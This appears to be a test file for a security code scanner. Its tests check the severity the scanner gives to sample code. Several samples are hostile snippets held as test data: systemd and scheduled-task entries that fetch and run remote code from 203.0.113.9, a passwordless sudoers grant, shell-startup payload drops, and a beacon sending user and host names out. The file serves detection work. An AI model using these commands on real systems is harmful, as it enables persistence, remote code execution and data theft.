    # self.strictSSL === false, switch (process.env.PGSSLMODE): the user's setting; no test, or `if (url)`: high
    assert _by_line("js-tls-verification-disabled", "lib/request.js", text) == {
        9: "medium", 18: "medium", 24: "high", 29: "high", 36: "high", 43: "high"}


def test_joblib_load_of_a_downloaded_file_is_critical_of_a_packaged_model_medium():
    text = (FIXTURES / "joblib-load" / "downloaded.py").read_text()
    assert _by_line("joblib-load", "m.py", text) == {12: "critical", 16: "medium"}


def test_yaml_loader_picked_from_a_table_is_high_only_when_an_entry_builds_objects():
    text = (FIXTURES / "yaml-unsafe-load" / "loader_table.py").read_text()
    assert _by_line("yaml-unsafe-load", "y.py", text) == {11: "high"}


def test_startup_file_gets_high_for_commands_and_medium_for_settings_only():
    text = ("import os\nfrom pathlib import Path\n"
            "def add_path(bin_dir):\n"
            "    with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
            "        fh.write(f'export PATH=\"{bin_dir}:$PATH\"\\n')\n"
            "def hook():\n"
            "    with open(os.path.expanduser('~/.zshrc'), 'a') as fh:\n"
            "        fh.write('eval \"$(pyenv init -)\"\\n')\n"
            "def drop(payload):\n"
            "    with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
            "        fh.write(payload)\n"
            "def background():\n"
            "    with open(os.path.expanduser('~/.profile'), 'a') as fh:\n"
            "        fh.write('~/.cache/.svc >/dev/null 2>&1 &\\n')\n"
            "def own_unit():\n"
            "    (Path.home() / '.config/systemd/user/acme.service').write_text(\n"
            "        '[Unit]\\nDescription=Acme\\n[Service]\\nExecStart=/usr/local/bin/acme --serve\\n')\n"
            "def hidden_unit():\n"
            "    (Path.home() / '.config/systemd/user/upd.service').write_text(\n"
            "        '[Service]\\nExecStart=/usr/bin/python3 /home/u/.cache/.u.py\\n')\n"
            "def fetch_unit():\n"
            "    (Path.home() / '.config/systemd/user/f.service').write_text(\n"
            "        \"[Service]\\nExecStart=/bin/sh -c 'curl -s http://203.0.113.9/x | sh'\\n\")\n")
    assert _by_line("shell-startup-file-write", "install.py", text) == {
        4: "medium", 5: "medium", 7: "medium", 8: "medium", 10: "medium", 11: "high", 13: "medium", 14: "high",
        16: "medium", 19: "high", 22: "critical"}


def test_startup_settings_pattern_is_linear_on_hostile_text():
    import re
    import time

    import yaml
    rule = Path(__file__).resolve().parent.parent / "rules" / "python" / "shell-startup-file-write.yaml"
    pattern = re.compile(yaml.safe_load(rule.read_text())["facts"]["cases"][2]["when"]["also"][1]["not_matches"])
    start = time.process_time()
    for text in (" " * 50_000 + "x", ("\t" * 500 + "\n") * 100 + "x", "Description=" + " " * 50_000 + "$",
                 'A="' + "$a" * 50_000, "export A=1\n" * 50_000 + "x &"):
        pattern.search(text)
    assert time.process_time() - start < 5.0  # nested quantifiers over spaces backtracked for minutes (now ~0.05 s)


def test_python_download_pinned_to_a_digest_or_given_to_tar_is_medium_run_unchecked_is_critical():
    head = ("import hashlib, os, subprocess, urllib.request\n"
            "SHA = '6c881ab0698e4e6ea235245f22832860544f17ba386442fe7e9d629f8cbedf87'\n"
            "def fetch(url, path):\n"
            "    urllib.request.urlretrieve(url, path)\n")
    checked = head + ("    with open(path, 'rb') as fh:\n"
                      "        if hashlib.sha256(fh.read()).hexdigest() != SHA:\n"
                      "            raise RuntimeError('checksum mismatch')\n"
                      "    subprocess.run([path, '--version'])\n")
    assert _by_line("download-and-run-file", "tools/get.py", checked) == {8: "medium"}
    salted = head + ("    if hashlib.sha256(b'salt').hexdigest() != SHA:\n"
                     "        raise RuntimeError('bad salt')\n"
                     "    subprocess.run([path, '--version'])\n")
    assert _by_line("download-and-run-file", "tools/get.py", salted) == {7: "critical"}
    unpacked = head + "    subprocess.run(['tar', '-xzf', path, '-C', '/opt/tool'])\n    os.system(path)\n"
    assert _by_line("download-and-run-file", "tools/get.py", unpacked) == {5: "medium", 6: "critical"}
    after = head + ("    subprocess.run([path])\n"
                    "    if hashlib.sha256(open(path, 'rb').read()).hexdigest() != SHA:\n"
                    "        raise RuntimeError('too late')\n")
    assert _by_line("download-and-run-file", "tools/get.py", after) == {5: "critical"}


def test_login_name_in_a_socket_message_is_medium_in_a_resolver_lookup_high():
    # a WebSocket send takes the message: the login name in a chat greeting is not a URL or a DNS name
    text = ("const os = require('os');\n"
            "const { Resolver } = require('dns').promises;\n"
            "const WebSocket = require('ws');\n"
            "const ws = new WebSocket('ws://localhost:8080/chat');\n"
            "ws.send(JSON.stringify({ user: os.userInfo().username }));\n"
            "new Resolver().resolve4(os.userInfo().username + '.b.example.net');\n"
            "fetch('https://t.example.net/?u=' + os.userInfo().username);\n")
    assert _by_line("host-identity-sent-over-network", "m.js", text) == {5: "medium", 6: "high", 7: "high"}


def test_request_input_as_an_argument_of_a_fixed_program_is_medium_through_a_shell_critical():
    text = ("const { execFile, spawn } = require('child_process');\n"
            "app.get('/a', (req, res) => {\n"
            "  execFile('ping', ['-c', '2', '--', req.query.host], cb);\n"
            "  spawn('sh', ['-c', req.query.cmd]);\n"
            "  spawn('git', ['log', req.query.ref], { shell: true });\n"
            "  execFile(req.query.prog, [], cb);\n"
            "});\n")
    assert _by_line("js-exec-of-request-input", "a.js", text) == {3: "medium", 4: "critical", 5: "critical",
                                                                   6: "critical"}


def test_request_input_in_express_markup_is_high_without_markup_medium():
    text = ("app.get('/a', (req, res) => {\n"
            "  res.send(`<h1>${req.query.q}</h1>`);\n"
            "  res.send(`Not found: ${req.params.id}`);\n"
            "});\n")
    assert _by_line("xss-from-request-input", "a.js", text) == {2: "high", 3: "medium"}


def test_a_run_key_opened_only_to_read_it_is_low_opened_to_write_it_high():
    text = ("import winreg\n"
            "RUN = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
            "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
            "r = winreg.OpenKeyEx(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_READ)\n"
            "w = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_WRITE)\n"
            "v = winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN)\n"
            "a = winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN, access=winreg.KEY_ALL_ACCESS)\n")
    assert _by_line("registry-run-key-persistence", "m.py", text) == {3: "low", 4: "low", 5: "high", 7: "high"}


def test_a_nopasswd_rule_written_to_sudoers_is_critical_other_writes_high_reads_nothing():
    text = ("from pathlib import Path\n"
            "def grant(fh, user):\n"
            "    fh.write(user + ' ALL=(ALL) NOPASSWD: ALL')\n"
            "with open('/etc/sudoers', 'a') as fh:\n"
            "    fh.write('Defaults env_keep += \"HTTP_PROXY\"')\n"
            "Path('/etc/sudoers.d/90-u').write_text('u ALL=(ALL) NOPASSWD:ALL')\n"
            "rules = open('/etc/sudoers').read()\n")
    assert _by_line("sudoers-rule-written", "m.py", text) == {4: "high", 5: "high", 6: "critical"}


def test_a_scheduled_task_for_an_installed_program_is_medium_for_a_script_host_or_temp_file_high():
    text = ("import subprocess\n"
            "subprocess.run(['schtasks', '/create', '/sc', 'daily', '/tn', 'B', '/tr', r'\"C:\\Program Files\\B\\b.exe\" -n'])\n"
            "subprocess.run('schtasks /create /sc onlogon /tn U /tr C:\\\\Windows\\\\System32\\\\cleanmgr.exe /f')\n"
            "subprocess.run(['schtasks', '/create', '/sc', 'onlogon', '/tn', 'U', '/tr', r'C:\\Users\\a\\AppData\\Local\\Temp\\u.exe'])\n"
            "subprocess.run(['schtasks', '/create', '/sc', 'onlogon', '/tn', 'U', '/tr', r'C:\\Program Files\\B\\b.exe', '&', 'powershell', '-enc', 'AAA'])\n"
            "subprocess.run('schtasks /create /sc minute /tn U /tr \"powershell -w hidden -c iwr http://203.0.113.9/a\"')\n")
    assert _by_line("shell-persistence-command", "m.py", text) == {2: "medium", 3: "medium", 4: "high", 5: "high", 6: "high"}


def test_a_fetched_url_from_the_request_is_high_a_fixed_host_with_a_request_path_is_low():
    text = ("import requests\n"
            "from flask import request\n"
            "def f():\n"
            "    requests.get(request.args['url'])\n"
            "    requests.get('https://api.example.com/users/' + request.args['id'])\n"
            "    requests.get('http://' + request.args['host'] + '/status')\n"
            "    requests.get('https://evil@' + request.args['host'] + '/')\n")
    assert _by_line("ssrf-url-from-request-input", "app.py", text) == {4: "high", 5: "low", 6: "high", 7: "high"}


def test_js_exec_of_a_command_built_only_from_constants_is_low():
    text = ('const cp = require("child_process");\n'
            'const OUT = "dist/pkg";\n'
            'const ARCHIVE = OUT + ".tgz";\n'
            'cp.execSync("rm -rf " + OUT);\n'
            'cp.execSync(`tar czf ${ARCHIVE} ${OUT}`);\n'
            'function clean(dir) { cp.execSync("rm -rf " + dir); }\n')
    assert _by_line("js-exec-command-injection", "build.js", text) == {4: "low", 5: "low", 6: "high"}


def test_js_text_from_an_allow_list_table_or_a_choice_of_constants_is_low_with_the_raw_input_high():
    sql = ('const SORTS = { name: "name", newest: "created_at DESC", price: "price" };\n'
           'async function listProducts(req) {\n'
           '  const order = SORTS[req.query.order] || "id";\n'
           '  await knex.raw(`SELECT * FROM products ORDER BY ${order}`);\n'
           '  const dir = req.query.desc === "1" ? "DESC" : "ASC";\n'
           '  await pool.query("SELECT * FROM products ORDER BY price " + dir);\n'
           '  const loose = SORTS[req.query.order] || req.query.order;\n'
           '  await knex.raw(`SELECT * FROM products ORDER BY ${loose}`);\n'
           '}\n')
    assert _by_line("js-sql-injection-built-query", "db.js", sql) == {4: "low", 6: "low", 8: "high"}
    shell = ('const cp = require("child_process");\n'
             'const FORMATS = { small: "-resize 64x64", large: "-resize 512x512" };\n'
             'function thumb(size) {\n'
             '  cp.execSync(`convert in.png ${FORMATS[size] ?? "-resize 128x128"} out.png`);\n'
             '  FORMATS.custom = size;\n'
             '}\n'
             'const PRESETS = { small: "-resize 64x64", large: "-resize 512x512" };\n'
             'function preset(size) {\n'
             '  cp.execSync(`convert in.png ${PRESETS[size] ?? "-resize 128x128"} out.png`);\n'
             '}\n')
    assert _by_line("js-exec-command-injection", "img.js", shell) == {4: "high", 9: "low"}


def test_request_text_in_a_fetch_api_response_is_medium_as_html_high():
    text = ('export async function GET(request) {\n'
            '  const q = new URL(request.url).searchParams.get("q");\n'
            '  if (q === "a") return new Response(`You searched ${q}`);\n'
            '  if (q === "b") return new Response(`<h1>${q}</h1>`, { headers: { "content-type": "text/html" } });\n'
            '  return new Response(q, { headers: { "Content-Type": "text/html; charset=utf-8" } });\n'
            '}\n')
    assert _by_line("xss-from-request-input", "app/search/route.js", text) == {3: "medium", 4: "high", 5: "high"}


def test_js_allow_list_that_grows_at_run_time_does_not_make_the_checked_value_constant():
    text = ('const COLUMNS = new Set(["name", "price"]);\n'
            'const FIXED = ["name", "price"];\n'
            'async function list(req) {\n'
            '  COLUMNS.add(req.query.extra);\n'
            '  const a = COLUMNS.has(req.query.sort) ? req.query.sort : "id";\n'
            '  await knex.raw(`SELECT * FROM t ORDER BY ${a}`);\n'
            '  const b = FIXED.includes(req.query.sort) ? req.query.sort : "id";\n'
            '  await knex.raw(`SELECT * FROM t ORDER BY ${b}`);\n'
            '}\n')
    assert _by_line("js-sql-injection-built-query", "db.js", text) == {6: "high", 8: "low"}



def test_js_text_joined_from_more_pieces_than_the_bound_is_not_read_as_choices():
    chain = " + ".join(f'"p{i}"' for i in range(400))
    text = ('const cp = require("child_process");\n'
            'function f(v) {\n'
            '  const flag = v ? "-a" : "-b";\n'
            f'  cp.execSync(flag + {chain});\n'
            '  cp.execSync("ls " + flag);\n'
            '}\n')
    assert _by_line("js-exec-command-injection", "long.js", text) == {4: "high", 5: "low"}


def test_js_joined_pieces_are_not_walked_down_a_chain_deeper_than_the_bound():
    import sys

    from codescan.analyze.languages import parser
    from codescan.analyze.semantics.lang import js_choices

    source = ("x = a + " + " + ".join(f'"p{i}"' for i in range(400)) + ";\n").encode()
    node = parser("javascript").parse(source).root_node.named_children[0].named_children[0].child_by_field_name("right")
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(150)  # a walk down the 400-deep chain would need ~400 frames
    try:
        assert js_choices._pieces(node, []) is None
    finally:
        sys.setrecursionlimit(limit)


def test_a_pickle_received_on_an_accepted_connection_or_fetched_from_a_model_hub_is_critical():
    text = ("import pickle, socket\nfrom huggingface_hub import hf_hub_download\n"
            "def serve(port):\n    s = socket.socket()\n    s.bind(('0.0.0.0', port))\n    s.listen(5)\n"
            "    conn, addr = s.accept()\n    job = pickle.loads(conn.recv(65536))\n"
            "    conn.sendall(pickle.dumps(job))\n"
            "def vocab(repo):\n    with open(hf_hub_download(repo_id=repo, filename='vocab.pkl'), 'rb') as f:\n"
            "        return pickle.load(f)\n"
            "def local(path):\n    with open(path, 'rb') as f:\n        return pickle.load(f)\n")
    # the peer's bytes and the hub repository's file are someone else's; a local path stays the round trip's
    assert _by_line("pickle-load", "worker.py", text) == {8: "critical", 12: "critical", 15: "medium"}


def test_a_local_pickle_opened_through_pathlib_is_medium_a_download_through_it_critical():
    text = ("from pathlib import Path\nimport pickle, dill, requests\n"
            "CACHE = Path.home() / '.cache' / 'app' / 'pipeline.dill'\n"
            "def cached():\n    with CACHE.open('rb') as fh:\n        return dill.load(fh)\n"
            "def beside(name):\n    return pickle.loads((Path(__file__).parent / name).read_bytes())\n"
            "def fetched(url):\n    p = Path.home() / '.cache' / 'm.pkl'\n"
            "    p.write_bytes(requests.get(url).content)\n    return pickle.loads(p.read_bytes())\n")
    assert _by_line("pickle-load", "store.py", text) == {6: "medium", 8: "medium", 12: "critical"}


def test_sql_fstring_of_allow_list_choices_is_low_and_of_request_text_high():
    # f"... ORDER BY {SORTS.get(key, 'name')}": each placeholder is a constant or one of a constant table's entries,
    # so the statement is one of a few known texts; the same f-string with the raw request value, with a table
    # entry beside raw request text, or with a format spec on the pick stays high
    text = ("from flask import request\n"
            "from sqlalchemy import text\n"
            "SORTS = {'name': 'name', 'price': 'price DESC'}\n"
            "DIRS = {'up': 'ASC', 'down': 'DESC'}\n"
            "def search(conn):\n"
            "    sort = SORTS.get(request.args.get('sort'), 'name')\n"
            "    way = DIRS.get(request.args.get('dir'), 'ASC')\n"
            "    conn.execute(text(f'SELECT id FROM products ORDER BY {sort} {way} LIMIT {20}'))\n"
            "    conn.execute(text(f'SELECT id FROM products ORDER BY {request.args[\"sort\"]}'))\n"
            "    conn.execute(text(f'SELECT id FROM products WHERE name = {request.args[\"q\"]} ORDER BY {sort}'))\n"
            "    conn.execute(text(f'SELECT id FROM products ORDER BY {sort!r}'))\n")
    assert _by_line("sql-built-from-string", "app/search.py", text) == {8: "low", 9: "high", 10: "high", 11: "high"}


def test_js_module_named_by_request_input_after_a_stopping_check_is_medium():
    text = ("const EXPORTERS = new Set(['csv', 'json']);\n"
            "async function one(ctx) {\n  const kind = ctx.params.kind;\n  if (!EXPORTERS.has(kind)) ctx.throw(404);\n"
            "  return import(`./exporters/${kind}.mjs`);\n}\n"
            "async function two(ctx) {\n  const kind = ctx.params.kind;\n"
            "  return import(`./exporters/${kind}.mjs`);\n}\n")
    assert _by_line("js-exec-of-request-input", "routes.mjs", text) == {5: "medium", 9: "critical"}


def test_request_input_as_one_argv_word_through_a_helper_is_argument_injection_not_a_command():
    # the list's known words survive the same-file summary: a fixed program (grep) stays medium through the helper,
    # a shell or a program chosen by the caller stays critical
    text = (
        "import subprocess\nfrom flask import request\n"
        "def grep(p):\n    return subprocess.run(['grep', '-F', '--', p, '/var/log/a.log'])\n"
        "def shell(p):\n    return subprocess.run(['sh', '-c', p])\n"
        "def prog(p):\n    return subprocess.run([p, '--version'])\n"
        "def view():\n"
        "    q = request.args['q']\n"
        "    return grep(q), shell(q), prog(q)\n"
    )
    assert _by_line("command-from-request-input", "v.py", text) == {4: "medium", 6: "critical", 8: "critical"}


def test_login_name_posted_to_a_plain_http_address_is_high_over_tls_or_to_this_host_medium():
    # a dependency-confusion beacon posts "user###host###os" to http://x/spark.php; telemetry would speak TLS
    text = (
        "import base64, getpass, socket, requests\nfrom urllib import request\n"
        "vid = getpass.getuser() + '###' + socket.gethostname()\n"
        "request.urlopen('http://numipy.openvc.org/spark.php', data=b'vid=' + base64.b64encode(vid.encode()))\n"
        "requests.post('http://10.20.30.40:8080/p', json={'u': getpass.getuser()})\n"
        "requests.post('https://audit.corp.example.com/api/events', json={'user': getpass.getuser()})\n"
        "requests.post('http://localhost:8080/events', json={'user': getpass.getuser()})\n"
        "requests.post('http://127.0.0.1:9000/events', json={'user': getpass.getuser()})\n"
        "requests.post('http://metrics.internal/events', json={'host': socket.gethostname()})\n"
    )
    assert _by_line("host-identity-sent-over-network", "t.py", text) == {
        4: "high", 5: "high", 6: "medium", 7: "medium", 8: "medium", 9: "medium"}


def test_a_helper_reached_from_several_call_sites_is_judged_by_the_gravest():
    # a beacon through a helper, then a benign call of the same helper: the later, milder verdict must not hide it
    text = (
        "import getpass, requests\n"
        "def send(u, d):\n    return requests.post(u, data=d)\n"
        "send('http://beacon-host.top/p', {'u': getpass.getuser()})\n"
        "send('https://api.example.com/p', {'u': getpass.getuser()})\n"
    )
    assert _by_line("host-identity-sent-over-network", "h.py", text) == {3: "high"}


def test_a_template_picked_from_a_constant_table_is_low_a_fallback_to_request_text_stays_high():
    # PAGES.get(key) or PAGES["home"] (and `A if c else B`) is one of the program's own templates: nothing is injected
    text = (
        "from flask import render_template_string, request\n"
        "PAGES = {'home': '<h1>{{ name }}</h1>', 'bye': '<p>bye {{ name }}</p>'}\n"
        "def a():\n    return render_template_string(PAGES.get(request.args.get('p')) or PAGES['home'])\n"
        "def b(short):\n    return render_template_string(PAGES['bye'] if short else PAGES['home'])\n"
        "def c():\n    return render_template_string(PAGES.get(request.args.get('p')) or request.args['tpl'])\n"
        "def d(short):\n    return render_template_string(PAGES['bye'] if short else request.form['tpl'])\n"
    )
    assert _by_line("render-template-string-variable", "pages.py", text) == {
        4: "low", 6: "low", 8: "high", 10: "high"}


def test_request_data_checked_inside_the_helper_it_is_passed_to_arrives_checked():
    # the helper checks its parameter against an allow-list and raises: whatever a caller passes is checked there
    text = ("from fastapi import FastAPI, HTTPException\n"
            "import sqlite3, subprocess\n"
            "app = FastAPI()\n"
            "SORTABLE = {'day', 'total'}\n"
            "def order(sort):\n"
            "    col = sort.lstrip('-')\n"
            "    if col not in SORTABLE:\n"
            "        raise HTTPException(400, 'bad column')\n"
            "    return ' ORDER BY ' + col\n"
            "def order_unchecked(sort):\n"
            "    return ' ORDER BY ' + sort.lstrip('-')\n"
            "@app.get('/r')\n"
            "def reports(sort: str = 'day'):\n"
            "    conn = sqlite3.connect('r.db')\n"
            "    conn.execute('SELECT * FROM sales' + order(sort))\n"
            "    conn.execute('SELECT * FROM sales' + order_unchecked(sort))\n"
            "    return []\n")
    assert _by_line("sql-from-request-input", "api.py", text) == {15: "medium", 16: "critical"}
    # a constant passed to a checking helper stays the constant: nothing to report
    constant = ("import subprocess\n"
                "ALLOWED = {'ls', 'df'}\n"
                "def run(cmd):\n"
                "    if cmd not in ALLOWED:\n"
                "        raise ValueError(cmd)\n"
                "    subprocess.call(cmd, shell=True)\n"
                "run('ls')\n")
    assert _by_line("command-from-request-input", "tool.py", constant) == {}


def test_request_data_appended_to_a_fixed_programs_argv_is_medium_appended_after_sh_c_critical():
    text = (FIXTURES.parent / "facts" / "command-from-request-input" / "appended_argv.py").read_text()
    assert _by_line("command-from-request-input", "appended_argv.py", text) == {24: "medium", 29: "critical"}


def test_dev_server_options_updated_by_keywords_keep_the_debugger_switch():
    text = ("from flask import Flask\n"
            "app = Flask(__name__)\n"
            "opts = {'port': 5000}\n"
            "opts['host'] = '.'.join(['0'] * 4)\n"
            "opts.update(debug=True, use_reloader=False)\n"
            "app.run(**opts)\n"
            "calm = {'host': '0.0.0.0'}\n"
            "calm.update(debug=False)\n"
            "app.run(**calm)\n")
    assert _by_line("bind-all-interfaces", "serve.py", text) == {6: "high", 9: "medium"}


def test_options_dict_returned_by_a_helper_keeps_its_constant_entries_beside_the_parameters():
    text = ("from flask import Flask\n"
            "app = Flask(__name__)\n"
            "def options(settings):\n"
            "    return {'port': settings.PORT, 'host': '0.0.0.0', 'debug': True}\n"
            "def local(settings):\n"
            "    return {'port': settings.PORT, 'host': '127.0.0.1', 'debug': True}\n"
            "app.run(**options(object()))\n"
            "app.run(**local(object()))\n")
    assert _by_line("bind-all-interfaces", "serve.py", text) == {7: "high"}


def test_upload_saved_under_a_name_the_code_chose_is_low_as_a_path_high_when_read_back_and_run():
    text = ("import os, shutil, uuid\n"
            "from flask import Flask, request, send_file\n"
            "app = Flask(__name__)\n"
            "def _store(upload):\n"
            "    dest = os.path.join('/srv/in', uuid.uuid4().hex)\n"
            "    with open(dest, 'wb') as fh:\n"
            "        shutil.copyfileobj(upload.stream, fh)\n"
            "    return dest\n"
            "@app.post('/a')\n"
            "def a():\n"
            "    path = _store(request.files['f'])\n"
            "    exec(open(path).read())\n"
            "    send_file(os.path.join(path, request.args['sub']))\n"
            "    return send_file(path)\n")
    assert _by_line("path-from-request-input", "app.py", text) == {12: "low", 13: "high", 14: "low"}
    assert _by_line("exec-of-request-input", "app.py", text) == {12: "critical"}


def test_shelf_opened_at_a_request_path_is_high_at_a_fixed_path_medium():
    text = ("import shelve\n"
            "from flask import request\n"
            "def load():\n"
            "    a = shelve.open('/var/lib/app/sessions/' + request.cookies.get('sid', 'anon'))\n"
            "    b = shelve.open('/var/lib/app/cache.db')\n"
            "    return a, b\n")
    assert _by_line("shelve-open", "app.py", text) == {4: "high", 5: "medium"}


def test_mktemp_is_high_in_code_low_in_a_test_suite():
    text = "import tempfile\npath = tempfile.mktemp()\n"
    assert _by_line("temp-file-name-race", "pkg/report.py", text) == {2: "high"}
    assert _by_line("temp-file-name-race", "tests/test_report.py", text) == {2: "low"}


def test_mktemp_of_a_named_pipe_or_inside_a_private_directory_is_low():
    text = ("import os, tempfile\n"
            "a = tempfile.mktemp(prefix=r'\\\\.\\pipe\\python-pipe-{:d}-'.format(os.getpid()))\n"
            "d = tempfile.mkdtemp()\n"
            "b = tempfile.mktemp(suffix='.sock', dir=d)\n"
            "c = tempfile.mktemp(prefix='x-', dir='/tmp')\n")
    assert _by_line("temp-file-name-race", "pkg/ipc.py", text) == {2: "low", 4: "low", 5: "high"}
